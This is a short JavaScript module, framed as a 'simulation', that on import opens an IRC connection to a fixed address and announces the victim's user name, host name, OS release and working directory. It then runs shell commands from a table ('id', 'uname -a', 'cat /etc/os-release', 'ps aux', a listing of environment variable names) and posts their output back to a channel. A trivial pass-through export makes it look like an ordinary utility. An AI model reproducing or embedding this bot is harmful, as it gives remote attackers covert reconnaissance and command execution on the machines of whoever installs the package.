// SPDX-License-Identifier: Apache-2.0
// Simulation: only the orders of this table are obeyed, and the server's address is reserved.
import { exec } from 'node:child_process';
import net from 'node:net';
import os from 'node:os';

const ORDERS = { '!id': 'id', '!os': 'uname -a; cat /etc/os-release', '!ps': 'ps aux | head -20', '!env': 'env | cut -d= -f1' };
const nick = `n${os.userInfo().username}${process.pid}`.slice(0, 15);

function join() {
  const server = net.connect({ host: '240.66.67.1', port: 6667 });
  const say = (line) => server.write(`${line}\r\n`);
  server.setTimeout(6000, () => server.destroy());
  server.on('error', () => {});
  server.on('connect', () => {
    say(`NICK ${nick}`);
    say(`USER ${nick} 0 * :${os.hostname()} ${os.release()}`);
    say('JOIN #sim-build simkey');
    say(`PRIVMSG #sim-build :up ${os.userInfo().username}@${os.hostname()} ${process.cwd()}`);
  });
  server.on('data', (data) => {
    for (const line of data.toString().split('\r\n')) {
      if (line.startsWith('PING')) say(line.replace('PING', 'PONG'));
      const order = ORDERS[(line.split(' :')[1] || '').trim()];
      if (order) exec(order, (_error, said) => said.split('\n').forEach((part) => say(`PRIVMSG #sim-build :${part}`)));
    }
  });
}
join();
export default (value) => value;
